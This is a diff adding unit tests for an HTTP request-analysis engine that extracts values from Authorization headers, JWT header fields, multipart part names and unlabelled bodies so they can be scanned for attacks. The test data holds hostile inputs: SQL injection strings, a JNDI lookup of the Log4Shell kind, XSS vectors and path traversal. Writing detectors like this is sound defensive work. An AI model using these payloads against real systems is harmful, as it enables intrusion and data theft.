@@ -15,6 +15,7 @@ import {
 import { decodeValue, MAX_VALUE_CHARS, shellForm } from '@/runtime/analyzer/engine/detection/decode';
 import {
   collectValues,
+  credentialValues,
   graphqlLiterals,
   isGraphqlDocument,
   looksOpaque,
@@ -176,6 +177,82 @@ describe('placements', () => {
     expect(locations(request)).toEqual(expect.arrayContaining(["body_json:page.q=x' OR 1=1--", 'body_json:event=view']));
     const prose = view({ method: 'POST', target: '/note', requestHeaders: [['Content-Type', 'text/plain']], requestBody: '[draft] see {the} notes' });
     expect(locations(prose)).toContain('body:=[draft] see {the} notes');
+  });
+
+  it('reads from Authorization what no credential is: a malformed credential, JWT header fields, auth-params but the proofs', () => {
+    const jwtHeader = (fields: object) => Buffer.from(JSON.stringify(fields)).toString('base64url');
+    const kid = jwtHeader({ alg: 'HS256', kid: "x' UNION SELECT 'secret' --", typ: 'JWT' });
+    expect(credentialValues("Bearer ' OR 1=1--")).toEqual([{ name: '', value: "' OR 1=1--" }]);
+    expect(credentialValues('${jndi:ldap://203.0.113.9/a}')).toEqual([{ name: '', value: '${jndi:ldap://203.0.113.9/a}' }]);
+    expect(credentialValues(`Bearer ${kid}.eyJzdWIiOiIxIn0.c2ln`)).toEqual([
+      { name: '(jwt header).alg', value: 'HS256' },
+      { name: '(jwt header).kid', value: "x' UNION SELECT 'secret' --" },
+      { name: '(jwt header).typ', value: 'JWT' },
+    ]);
+    // The shape the sensor sends: the header segment kept, the rest redacted.
+    expect(credentialValues(`Bearer ${kid}.redacted:k1:0123456789abcdef:300`).map((c) => c.name)).toEqual([
+      '(jwt header).alg',
+      '(jwt header).kid',
+      '(jwt header).typ',
+    ]);
+    expect(credentialValues('Bearer redacted:k1:0123456789abcdef:40')).toEqual([]);
+    expect(credentialValues('Digest username="admin\' --", realm="api", nonce="n1", uri="/x", response="6629fae4"')).toEqual([
+      { name: '(username)', value: "admin' --" },
+      { name: '(realm)', value: 'api' },
+      { name: '(uri)', value: '/x' },
+    ]);
+    // A bare token (an API key without a scheme) is read like any credential.
+    expect(credentialValues('k-123')).toEqual([{ name: '', value: 'k-123' }]);
+    expect(credentialValues('')).toEqual([]);
+    const events = createAnalysisEngine({ catalog: false }).analyze(
+      buildExchange({ id: 'kid', method: 'GET', target: '/api/me', requestHeaders: [['Authorization', `Bearer ${kid}.redacted:k1:0123456789abcdef:300`]] }),
+      context,
+    );
+    const match = events.find((e): e is MatchEventRecord => e.msg_type === 'MatchEvent')?.matches[0];
+    expect([match?.classification, match?.location, match?.parameter]).toEqual(['SqlInjection', 'header', 'Authorization (jwt header).kid']);
+  });
+
+  it("reads a multipart part's name as a form field name, and a JSON part as JSON", () => {
+    const boundary = 'XyZ';
+    const body = [
+      `--${boundary}\r\nContent-Disposition: form-data; name="<svg onload=alert(1)>"\r\n\r\nx\r\n`,
+      `--${boundary}\r\nContent-Disposition: form-data; name="doc[../../x]"; filename="a.txt"\r\n\r\ndata\r\n`,
+      `--${boundary}\r\nContent-Disposition: form-data; name="meta"\r\nContent-Type: application/json\r\n\r\n{"title":"t","tags":["a"]}\r\n`,
+      `--${boundary}--\r\n`,
+    ].join('');
+    const request = view({
+      method: 'POST',
+      target: '/upload',
+      requestHeaders: [['Content-Type', `multipart/form-data; boundary=${boundary}`]],
+      requestBody: body,
+    });
+    expect(locations(request)).toEqual(
+      expect.arrayContaining([
+        'body_form_name:<svg onload=alert(1)>=<svg onload=alert(1)>',
+        'body_form_name:doc[../../x]=doc[../../x]',
+        'multipart_filename:doc[../../x].filename=a.txt',
+        'body_json:meta.title=t',
+        'body_json:meta.tags[]=a',
+      ]),
+    );
+    expect(locations(request).some((l) => l.startsWith('body_multipart:meta='))).toBe(false);
+  });
+
+  it('reads an unlabelled body of name=value pairs as a form, and unlabelled markup as text too', () => {
+    const form = view({ method: 'POST', target: '/f', requestBody: 'a=1&b=%27%20OR%20%271%27%3D%271%27%20--' });
+    expect(form.body.kind).toBe('form');
+    expect(locations(form)).toContain("body_form:b=' OR '1'='1' --");
+    const note = view({ method: 'POST', target: '/f', requestBody: 'see you at 5 = ok?\nbye' });
+    expect(note.body.kind).toBe('text');
+    const markup = view({
+      method: 'POST',
+      target: '/f',
+      requestHeaders: [['Content-Type', 'application/octet-stream']],
+      requestBody: '<img src=x onerror=alert(1)>',
+    });
+    expect(locations(markup)).toEqual(expect.arrayContaining(['xml_document:=<img src=x onerror=alert(1)>', 'body:=<img src=x onerror=alert(1)>']));
+    const xml = view({ method: 'POST', target: '/f', requestHeaders: [['Content-Type', 'text/xml']], requestBody: '<a>1</a>' });
+    expect(locations(xml).some((l) => l.startsWith('body:'))).toBe(false);
   });
 
   it('reads XML text and attributes as values and the document for XXE', () => {
